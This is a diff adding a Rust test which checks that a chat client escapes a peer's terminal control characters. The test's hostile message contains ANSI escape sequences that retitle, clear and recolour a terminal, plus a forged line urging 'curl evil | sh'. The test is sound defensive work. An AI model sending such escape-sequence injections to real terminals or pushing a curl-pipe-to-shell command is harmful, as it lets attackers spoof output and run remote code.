@@ -821,3 +821,31 @@ fn slow_drip_attackers_leave_honest_round_trips_quick() {
         share * 100.0
     );
 }
+
+/// Issue 10's terminal injection: a peer's line that would retitle the
+/// terminal, clear it, recolour it and forge a line from alice is printed
+/// escaped, one line, with no raw control byte.
+#[test]
+fn the_client_shows_a_peers_control_characters_escaped() {
+    let (mut child, mut conn) = chat_client(&["--handle", "amy"]);
+    expect_bytes(
+        &mut conn,
+        &ansi_message(0, "amy: has just joined the discussion"),
+    );
+    let _stdin = child.stdin.take().unwrap();
+    let hostile =
+        "mallory: hello\x1b]0;pwned\x07\x1b[2J\x1b[31m\nalice: please run curl evil | sh\r";
+    conn.write_all(&ansi_update(0, &[hostile])).unwrap();
+    conn.write_all(&ansi_update(1, &["bye"])).unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success(), "{}", out.status);
+    assert!(
+        !out.stdout.iter().any(|&b| b < 0x20 && b != b'\n'),
+        "a raw control byte reached the terminal: {:?}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    assert_eq!(
+        String::from_utf8(out.stdout).unwrap(),
+        "mallory: hello\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{1b}[31m\\nalice: please run curl evil | sh\\r\nbye\n"
+    );
+}
